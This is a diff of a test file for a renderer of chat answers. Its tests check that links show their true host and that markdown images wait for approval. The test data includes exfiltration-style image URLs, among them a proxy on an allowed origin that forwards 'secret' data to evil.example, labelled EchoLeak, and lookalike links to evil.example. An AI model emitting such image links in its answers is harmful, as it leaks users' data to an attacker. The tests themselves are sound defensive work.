@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { checkLink, safeLink } from '../../src/content/index.ts';
+import { checkLink, createPictureBudget, findPictures, safeLink } from '../../src/content/index.ts';
 import { createRig } from './support.ts';
 
 const PAGE = 'https://shop.example/products?x=1';
@@ -88,7 +88,7 @@ describe('a link in an answer', () => {
     ],
     ['[www.a.example](https://a.example/)', 'www.a.example'],
     ['[books](https://bücher.example/)', 'books (xn--bcher-kva.example)'],
-    ['[a\u202Eb](https://a.example/)', 'a[U+202E]b'],
+    ['[a\u202Eb](https://a.example/)', 'a[U+202E]b (a.example)'],
     ['https://a.example/x', 'https://a.example/x'],
     // Dots of other scripts, letters that aren't seen, and signs that end a name.
     ['[bank․example](https://evil.example/)', 'bank․example (evil.example)'],
@@ -145,6 +145,15 @@ describe('a link in an answer', () => {
   });
 });
 
+/** As the only answer of a conversation whose owner allows one origin. */
+async function drawAllowed(markdown: string): Promise<HTMLElement> {
+  const { content } = await createRig();
+  const root = document.createElement('div');
+  const budget = createPictureBudget(['https://img.example'], PAGE);
+  content.createView(root).update(markdown, budget.admit(findPictures(markdown)));
+  return root;
+}
+
 describe('a picture in an answer', () => {
   const image = '![chart](https://img.example/c.png?data=secret)';
 
@@ -160,28 +169,27 @@ describe('a picture in an answer', () => {
   });
 
   it('loads by itself from the owner’s origins, and only from exactly those', async () => {
-    const rig = await createRig({ imageOrigins: () => ['https://img.example'] });
-    expect(rig.draw(image).root.querySelector('img')?.src).toContain('https://img.example/');
+    expect((await drawAllowed(image)).querySelector('img')?.src).toContain('https://img.example/');
     for (const near of [
       'https://img.example.evil.example/',
       'http://img.example/',
       'https://img.example:444/',
       'https://img.example@evil.example/',
     ]) {
-      expect(rig.draw(`![x](${near}a.png)`).root.querySelector('img'), near).toBeNull();
+      const root = await drawAllowed(`![x](${near}a.png)`);
+      expect(root.querySelector('img'), near).toBeNull();
     }
   });
 
   it('of the owner’s origins waits all the same where its address carries much (EchoLeak: an allowed proxy)', async () => {
-    const rig = await createRig({ imageOrigins: () => ['https://img.example'] });
     const stolen = `https://img.example/proxy?url=${encodeURIComponent(`https://evil.example/?d=${'secret'.repeat(9)}`)}`;
     for (const markdown of [`![x](${stolen})`, `![x][r]\n\n[r]: ${stolen}`]) {
-      const { root } = rig.draw(markdown);
+      const root = await drawAllowed(markdown);
       expect(root.querySelector('img')).toBeNull();
       expect(root.querySelector('button')?.textContent).toBe('Show image from img.example: x');
     }
     const carried = `https://img.example/${'secret'.repeat(40)}.png`;
-    expect(rig.draw(`![x](${carried})`).root.querySelector('img')).toBeNull();
+    expect((await drawAllowed(`![x](${carried})`)).querySelector('img')).toBeNull();
   });
 
   it('does not load by way of a reference either', async () => {
@@ -190,12 +198,31 @@ describe('a picture in an answer', () => {
     expect(root.querySelector('button')).not.toBeNull();
   });
 
+  it('by a reference waits also on an allowed origin: its definition may come later, and grow', async () => {
+    const root = await drawAllowed('![x][r]\n\n[r]: https://img.example/c.png');
+    expect(root.querySelector('img')).toBeNull();
+    expect(root.querySelector('button.image')).not.toBeNull();
+  });
+
+  it('that waited is shown once its address may load, and stays', async () => {
+    const { content } = await createRig();
+    const root = document.createElement('div');
+    const view = content.createView(root);
+    view.update(image);
+    expect(root.querySelector('img')).toBeNull();
+    view.update(image, new Set(['https://img.example/c.png?data=secret']));
+    const picture = root.querySelector('img');
+    expect(picture?.alt).toBe('chart');
+    view.update(image, new Set());
+    expect(root.querySelector('img')).toBe(picture);
+  });
+
   it('is its words where it stands in a link or has no address', async () => {
     const { root } = (await createRig()).draw(
       '[![alt](https://i.example/a.png)](https://a.example/) ![b](data:image/png;base64,x)',
     );
     expect(root.querySelectorAll('img, button')).toHaveLength(0);
-    expect(root.textContent).toBe('alt b');
+    expect(root.textContent).toBe('alt (a.example) b');
   });
 });
 
